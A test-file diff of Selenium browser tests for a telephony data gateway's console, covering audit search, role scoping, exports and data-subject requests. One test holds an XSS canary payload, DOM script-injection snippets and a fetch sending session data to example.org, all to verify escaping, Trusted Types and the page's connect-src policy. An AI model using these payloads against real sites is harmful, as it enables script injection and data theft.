@@ -1,0 +1,350 @@
+"""The web console in a real browser: headless Chromium (Debian's `chromium` and
+`chromium-driver`) driven by Selenium against `gateway demo` (embedded PostgreSQL, demo
+backends), signing in with the tokens the demo prints.
+
+Skipped, with the reason, where Chromium or its driver is not installed (.ci/run installs
+both). A failing test leaves a screenshot (failure.png) in its pytest tmp dir; every test
+also saves the screens it checked there.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import json
+import os
+import queue
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import threading
+import time
+import urllib.error
+import urllib.request
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from .conftest import REPORTS, free_port
+
+pytestmark = pytest.mark.browser
+
+CHROMIUM = shutil.which("chromium")
+CHROMEDRIVER = shutil.which("chromedriver")
+try:
+    from selenium import webdriver
+    from selenium.common.exceptions import JavascriptException, StaleElementReferenceException
+    from selenium.webdriver.chrome.options import Options
+    from selenium.webdriver.chrome.service import Service
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.ui import Select, WebDriverWait
+except ImportError:          # pragma: no cover - the test extra installs it
+    webdriver = None
+
+CANARY = '<script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2">'
+
+
+@pytest.fixture(scope="module")
+def chromium():
+    missing = [what for what, found in (("chromium", CHROMIUM), ("chromedriver", CHROMEDRIVER),
+                                        ("selenium", webdriver)) if not found]
+    if missing:
+        pytest.skip(f"browser tests need {', '.join(missing)}: apt-get install chromium "
+                    "chromium-driver; pip install -e '.[test]'")
+
+
+class Demo:
+    """`gateway demo` as a process: its console URL and the token it printed per role."""
+
+    def __init__(self, base: str, tokens: dict[str, str]):
+        self.base, self.tokens = base, tokens
+
+    def call(self, method: str, path: str, role: str | None = None, body=None,
+             token: str | None = None, headers: dict | None = None) -> tuple[int, bytes]:
+        headers = dict(headers or {})
+        token = token or (self.tokens[role] if role else None)
+        if token:
+            headers["Authorization"] = f"Bearer {token}"
+        data = None
+        if body is not None:
+            data, headers["Content-Type"] = json.dumps(body).encode(), "application/json"
+        req = urllib.request.Request(self.base + path, data=data, method=method, headers=headers)
+        try:
+            with urllib.request.urlopen(req, timeout=30) as r:
+                return r.status, r.read()
+        except urllib.error.HTTPError as e:
+            return e.code, e.read()
+
+
+@pytest.fixture(scope="module")
+def demo(chromium, tmp_path_factory):
+    """The README's demo command on a free port, with a data dir of its own."""
+    port = free_port()
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GATEWAY_")}
+    env["GATEWAY_DATA_DIR"] = str(tmp_path_factory.mktemp("demo"))
+    proc = subprocess.Popen([sys.executable, "-m", "gateway", "demo", "--port", str(port)],
+                            env=env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
+    lines: queue.Queue[str] = queue.Queue()
+    threading.Thread(target=lambda: [lines.put(x) for x in proc.stdout], daemon=True).start()
+    printed = []
+    try:
+        deadline = time.monotonic() + 90
+        while not printed or "Ctrl-C" not in printed[-1]:
+            printed.append(lines.get(timeout=max(0.1, deadline - time.monotonic())))
+        text = "".join(printed)
+        (url,) = re.findall(r"open (http://\S+/console/) and paste", text)
+        tokens = dict(re.findall(r"^  (provider_staff|partner|euo_admin|user) +\S+ +(\S+)$", text,
+                                 re.M))
+        assert set(tokens) == {"provider_staff", "partner", "euo_admin", "user"}, text
+        yield Demo(url.removesuffix("/console/"), tokens)
+    finally:
+        proc.send_signal(signal.SIGINT)
+        try:
+            proc.wait(30)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+            proc.wait()
+
+
+@pytest.fixture
+def browser(request, chromium, tmp_path):
+    options = Options()
+    options.binary_location = CHROMIUM
+    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
+                "--window-size=1400,1000", "--lang=en-GB"):
+        options.add_argument(arg)
+    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
+    downloads = tmp_path / "downloads"
+    downloads.mkdir()
+    options.add_experimental_option("prefs", {"download.default_directory": str(downloads),
+                                              "download.prompt_for_download": False})
+    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
+    driver.downloads = downloads
+    driver.shots = tmp_path
+    try:
+        yield driver
+    finally:
+        call = request.node.stash.get(REPORTS, {}).get("call")
+        if call is None or call.failed:
+            driver.save_screenshot(str(tmp_path / "failure.png"))
+            print(f"screenshot of the failure: {tmp_path / 'failure.png'}")
+        driver.quit()
+
+
+# --- helpers ----------------------------------------------------------------------------------
+
+def wait(driver, condition, timeout: float = 15, what: str = ""):
+    # a table redrawn while it is read leaves stale elements: read it again
+    return WebDriverWait(driver, timeout, poll_frequency=0.05,
+                         ignored_exceptions=(StaleElementReferenceException,)).until(
+        lambda d: condition(d), message=what)
+
+
+def by_id(driver, id_: str):
+    return driver.find_element(By.ID, id_)
+
+
+def sign_in(driver, demo: Demo, role: str) -> None:
+    driver.get(demo.base + "/console/")
+    by_id(driver, "token").send_keys(demo.tokens[role])
+    by_id(driver, "sign-in").click()
+    wait(driver, lambda d: by_id(d, "who").is_displayed(), what=f"{role} signed in")
+
+
+def settled(driver, status_id: str) -> str:
+    """The text of a status line once its view has finished loading."""
+    return wait(driver, lambda d: (t := by_id(d, status_id).text) and "Loading" not in t and t,
+                what=f"{status_id} settled")
+
+
+def table_rows(driver, table_id: str) -> list[list[str]]:
+    return [[td.text for td in tr.find_elements(By.TAG_NAME, "td")]
+            for tr in driver.find_elements(By.CSS_SELECTOR, f"#{table_id} tbody tr")]
+
+
+def downloaded(driver, name: str) -> Path:
+    path = driver.downloads / name
+    wait(driver, lambda d: path.exists() and not any(d.downloads.glob("*.crdownload")),
+         what=f"{name} downloaded")
+    return path
+
+
+def problems(driver) -> list[str]:
+    """The browser log's errors (the console's own use must leave none)."""
+    return [e["message"] for e in driver.get_log("browser") if e["level"] == "SEVERE"]
+
+
+def shot(driver, name: str) -> None:
+    driver.save_screenshot(str(driver.shots / f"{name}.png"))
+
+
+# --- the tests --------------------------------------------------------------------------------
+
+def test_staff_answer_who_saw_alices_voicemails_this_week(browser, demo):
+    assert demo.call("GET", "/telephony/euos/euo-acme/users/u-alice/voicemails",
+                     "provider_staff")[0] == 403
+    assert demo.call("GET", "/telephony/euos/euo-acme/users/u-alice/voicemails", "user")[0] == 200
+    assert demo.call("GET", "/telephony/euos/euo-acme/users/u-bob/recordings", "euo_admin")[0] == 200
+
+    sign_in(browser, demo, "provider_staff")
+    assert by_id(browser, "audit").is_displayed() and by_id(browser, "tab-requests").is_displayed()
+    assert not by_id(browser, "tab-mydata").is_displayed()
+    by_id(browser, "f-subject-user").send_keys("u-alice")
+    by_id(browser, "f-dataset").send_keys("voicemails")
+    by_id(browser, "range-week").click()              # "this week" searches at once
+    wait(browser, lambda d: "on this page" in by_id(d, "audit-status").text, what="rows")
+    rows = wait(browser, lambda d: table_rows(d, "audit-table"), what="rows")
+    # who saw them: u-alice herself (the policy gives voicemails to no one else)
+    assert rows and {(r[1], r[3], r[4], r[5]) for r in rows} == {
+        ("user · euo-acme · u-alice", "euo-acme / u-alice", "voicemails", "allow 200")}, rows
+    browser.find_element(By.CSS_SELECTOR, "#audit-table tbody tr").click()
+    detail = {dd.get_attribute("data-field"): dd.text
+              for dd in browser.find_elements(By.CSS_SELECTOR, "#detail-fields dd")}
+    assert detail["data_sets"] == "voicemails" and detail["subject_users"] == "u-alice"
+    assert re.fullmatch(r"[0-9a-f]{8,}", detail["policy_version"]), detail
+    assert {"fields_removed", "reason", "request_id", "route"} <= set(detail)
+    voicemail_rows = len(rows)
+
+    # who tried: a refusal served no data set, so it shows without the data-set filter
+    by_id(browser, "f-dataset").clear()
+    Select(by_id(browser, "f-decision")).select_by_value("deny")
+    by_id(browser, "audit-search").click()
+    wait(browser, lambda d: any(r[1] == "provider staff · Provider · staff-sam" and "voicemails" in r[2]
+                                and r[5] == "deny 403" and r[6] == "dataset_not_permitted"
+                                for r in table_rows(d, "audit-table")), what="the refused attempt")
+
+    rows = wait(browser, lambda d: table_rows(d, "audit-table"), what="rows")
+    # the chart follows the filter: staff's refusals, not the user's own reads
+    wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, "#chart rect"), what="chart bars")
+    roles = {r.get_attribute("data-role") for r in browser.find_elements(By.CSS_SELECTOR, "#chart rect")}
+    assert "provider_staff" in roles and "user" not in roles, roles
+
+    by_id(browser, "verify").click()
+    wait(browser, lambda d: "Intact" in by_id(d, "verify-status").text, what="chains verified")
+    shot(browser, "staff-audit")
+
+    by_id(browser, "download-csv").click()
+    table = list(csv.DictReader(io.StringIO(downloaded(browser, "audit.csv").read_text())))
+    assert len(table) == len(rows) >= 1
+    assert all("u-alice" in r["subject_users"] and r["decision"] == "deny" for r in table)
+    by_id(browser, "download-ndjson").click()
+    lines = downloaded(browser, "audit.ndjson").read_text().splitlines()
+    assert [json.loads(x)["request_id"] for x in lines] == [r["request_id"] for r in table]
+    assert voicemail_rows >= 1 and problems(browser) == []
+
+    # the console's own queries are audited like any other use of the API
+    status, body = demo.call("GET", "/v1/audit?actor=staff-sam&limit=1000", "provider_staff")
+    routes = {r["route"] for r in json.loads(body)["rows"]}
+    assert {"gateway:/v1/catalog", "gateway:/v1/audit", "gateway:/v1/audit/per-day",
+            "gateway:/v1/audit/verify"} <= routes
+
+
+def test_a_partner_and_an_euo_admin_see_only_their_scope(browser, demo):
+    assert demo.call("GET", "/telephony/euos/euo-acme/cdrs", "partner")[0] == 200
+    assert demo.call("GET", "/telephony/euos/euo-initech", "provider_staff")[0] == 200
+    sign_in(browser, demo, "partner")
+    assert by_id(browser, "tab-requests").is_displayed() and not by_id(browser, "tab-mydata").is_displayed()
+    by_id(browser, "f-euo").send_keys("euo-acme")
+    by_id(browser, "audit-search").click()
+    wait(browser, lambda d: "on this page" in by_id(d, "audit-status").text, what="rows")
+    rows = wait(browser, lambda d: table_rows(d, "audit-table"), what="rows")
+    assert any(r[1] == "partner · p-northwind · pat@northwind" and "call_history" in r[4]
+               for r in rows), rows
+    # actors of other organisations by role and organisation only
+    assert all("staff-sam" not in r[1] for r in rows), rows
+    by_id(browser, "f-euo").clear()
+    by_id(browser, "f-euo").send_keys("euo-initech")        # another partner's EUO
+    by_id(browser, "audit-search").click()
+    assert settled(browser, "audit-status") == "No row matches these filters."
+    assert "chain" in by_id(browser, "verify-status").text and not by_id(browser, "verify").is_displayed()
+    shot(browser, "partner-audit")
+
+    by_id(browser, "sign-out").click()
+    sign_in(browser, demo, "euo_admin")
+    by_id(browser, "audit-search").click()
+    wait(browser, lambda d: "on this page" in by_id(d, "audit-status").text, what="rows")
+    rows = wait(browser, lambda d: table_rows(d, "audit-table"), what="rows")
+    assert all(r[3] == "" or r[3].startswith("euo-acme") for r in rows), rows
+    by_id(browser, "f-euo").send_keys("euo-globex")
+    by_id(browser, "audit-search").click()
+    assert settled(browser, "audit-status") == "No row matches these filters."
+    assert problems(browser) == []
+
+
+def test_a_user_sees_who_accessed_their_data_downloads_it_and_files_a_request(browser, demo):
+    assert demo.call("GET", "/telephony/euos/euo-acme/users/u-alice", "provider_staff")[0] == 200
+    sign_in(browser, demo, "user")
+    assert by_id(browser, "mydata").is_displayed()
+    assert not by_id(browser, "tab-audit").is_displayed()
+    assert not by_id(browser, "tab-requests").is_displayed()
+    rows = wait(browser, lambda d: table_rows(d, "access-table"), what="access log")
+    assert any(r[1] == "provider staff" and r[2] == "Provider" and "user_name" in r[4] for r in rows), rows
+    # her own requests (the console's included) are not in her access log
+    assert all(r[1] != "user" for r in rows), rows
+
+    by_id(browser, "export").click()
+    archive = downloaded(browser, "export.zip")
+    wait(browser, lambda d: "saved" in by_id(d, "export-status").text, what="export saved")
+    with zipfile.ZipFile(archive) as z:
+        names = z.namelist()
+        assert "export.json" in names and any(n.endswith(".wav") for n in names), names
+        assert z.testzip() is None
+
+    Select(by_id(browser, "r-type")).select_by_value("rectification")
+    Select(by_id(browser, "r-datasets")).select_by_value("user_address")
+    by_id(browser, "r-detail").send_keys("My street is spelled wrong.")
+    by_id(browser, "r-file").click()
+    wait(browser, lambda d: "Request filed" in by_id(d, "request-status").text, what="request filed")
+    wait(browser, lambda d: any(r[1] == "rectification" and r[2] == "user_address"
+                                for r in table_rows(d, "my-requests")), what="request listed")
+    mine = [r for r in table_rows(browser, "my-requests") if r[2] == "user_address"]
+    assert mine[0][3] == "open" and mine[0][4], mine
+    shot(browser, "user-mydata")
+    assert problems(browser) == []
+
+
+def test_an_admin_answers_a_request_whose_script_canary_renders_as_text(browser, demo):
+    status, body = demo.call("POST", "/v1/me/requests", "user",
+                             body={"type": "objection", "data_sets": ["user_mobile"],
+                                   "detail": CANARY})
+    assert status == 201, body
+    request_id = json.loads(body)["id"]
+    sign_in(browser, demo, "euo_admin")
+    by_id(browser, "tab-requests").click()
+    row = wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, f'tr[data-id="{request_id}"]'),
+               what="the request listed")[0]
+    assert row.find_element(By.CSS_SELECTOR, "td.free-text").text == CANARY
+    assert row.find_elements(By.TAG_NAME, "img") == [] and row.find_elements(By.TAG_NAME, "script") == []
+    assert browser.execute_script("return window.__pwned") is None
+    shot(browser, "admin-requests")
+
+    row.find_element(By.CSS_SELECTOR, "td.answer input").send_keys("stopped the SMS campaign")
+    row.find_element(By.CSS_SELECTOR, 'button[data-status="accepted"]').click()
+    wait(browser, lambda d: "is now accepted" in by_id(d, "requests-status").text, what="accepted")
+    Select(by_id(browser, "q-status")).select_by_value("accepted")
+    wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, f'tr[data-id="{request_id}"] td.state'))
+    assert browser.find_element(By.CSS_SELECTOR, f'tr[data-id="{request_id}"] td.state').text == "accepted"
+    assert problems(browser) == []
+
+    # injected markup and script are refused by the page's policy, and the browser says so
+    for attempt in (
+            "document.body.innerHTML = arguments[0]",
+            "const s = document.createElement('script'); s.text = 'window.__pwned = 3';"
+            " document.body.append(s)",
+            "const s = document.createElement('script');"
+            " s.append(document.createTextNode('window.__pwned = 4')); document.body.append(s)"):
+        with contextlib.suppress(JavascriptException):
+            browser.execute_script(attempt, CANARY)
+    browser.execute_script("fetch('https://example.org/?t=' + sessionStorage.length).catch(() => 0)")
+    log = wait(browser, lambda d: problems(d) or None, what="violations logged")
+    log += problems(browser)
+    assert browser.execute_script("return window.__pwned") is None
+    assert any("requires 'TrustedHTML' assignment" in m for m in log), log
+    assert any("requires 'TrustedScript' assignment" in m for m in log), log
+    wait(browser, lambda d: any("connect-src 'self'" in m for m in log + problems(d)) or None,
+         what="the third-party fetch refused")
+
